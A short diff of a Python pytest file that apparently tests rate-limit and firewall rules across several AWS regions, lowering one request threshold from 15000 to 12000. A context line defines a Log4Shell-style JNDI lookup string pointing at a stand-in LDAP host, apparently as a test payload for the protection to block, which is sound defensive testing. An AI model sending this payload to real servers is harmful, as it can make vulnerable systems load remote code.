@@ -30,7 +30,7 @@ pytestmark = [pytest.mark.prove, pytest.mark.xdist_group("running")]
 
 REGIONS = ["us-east-1", "us-east-2", "us-west-2"]
 COUNTING = {
-    "payments": ("managed: count   ", "rate: {mode: count, requests: 15000"),
+    "payments": ("managed: count   ", "rate: {mode: count, requests: 12000"),
     "trading": ("managed: count\n", "rate: {mode: count, requests: 6000"),
 }
 ATTACK = "${jndi:ldap://example.com/a}"
